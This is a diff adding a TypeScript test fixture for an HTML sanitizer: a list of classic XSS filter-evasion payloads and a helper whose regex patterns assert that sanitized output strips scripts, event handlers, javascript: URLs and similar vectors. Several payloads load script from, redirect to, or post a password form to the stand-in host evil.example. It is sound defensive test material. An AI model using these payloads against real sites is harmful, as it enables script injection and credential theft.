@@ -1,0 +1,46 @@
+/** Classic XSS vectors (OWASP filter-evasion cheat sheet, DOMPurify's own test corpus) and WordPress quirks. */
+export const XSS_PAYLOADS = [
+  '<script>window.__xss("script")</script>',
+  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  '<img src=x onerror="window.__xss(\'onerror\')">',
+  '<IMG SRC="javascript:window.__xss(\'img-js\')">',
+  '<img src="x" ONERROR=window.__xss(1)>',
+  '<svg onload="window.__xss(\'svg\')"><circle r="1"/></svg>',
+  '<a href="javascript:window.__xss(\'href\')">click</a>',
+  '<a href="JaVaScRiPt:window.__xss(1)">mixed case</a>',
+  '<a href="jav&#x09;ascript:window.__xss(1)">tab-encoded</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss(1)">entities</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
+  '<body onload="window.__xss(1)">',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>window.__xss(1)</script>"></iframe>',
+  '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
+  '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
+  '<style>body{display:none}</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__xss(1)>">',
+  '<details open ontoggle="window.__xss(1)">x</details>',
+  '<video><source onerror="window.__xss(1)"></video>',
+  '<p onclick="window.__xss(1)" onmouseover="window.__xss(2)">hover</p>',
+  '<input autofocus onfocus="window.__xss(1)">',
+  '<div tabindex="1" autofocus>focus thief</div>',
+  '<a href="#" id="main">clobber the skip-link target</a>',
+  '<img name="cookie" src="x.png">',
+  '<template><script>window.__xss(1)</script></template>',
+];
+
+/** What sanitised output must never contain, whatever the payload. */
+export function expectNeutralised(clean: string) {
+  const lower = clean.toLowerCase();
+  expect(lower).not.toMatch(/<script|<iframe|<object|<embed|<style|<link|<meta|<base|<form|<input|<svg|<math/);
+  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
+  expect(lower).not.toMatch(/javascript:|data:text/);
+  expect(lower).not.toMatch(/\sstyle\s*=|\sautofocus|\ssrcdoc|formaction/);
+  // The only tabindex left is the one the policy puts on code blocks.
+  expect(lower.replace(/<pre([^>]*) tabindex="0"/g, '<pre$1')).not.toMatch(/\stabindex/);
+  expect(lower).not.toMatch(/\sid="(?!user-content-)|\sname="(?!user-content-)/);
+}
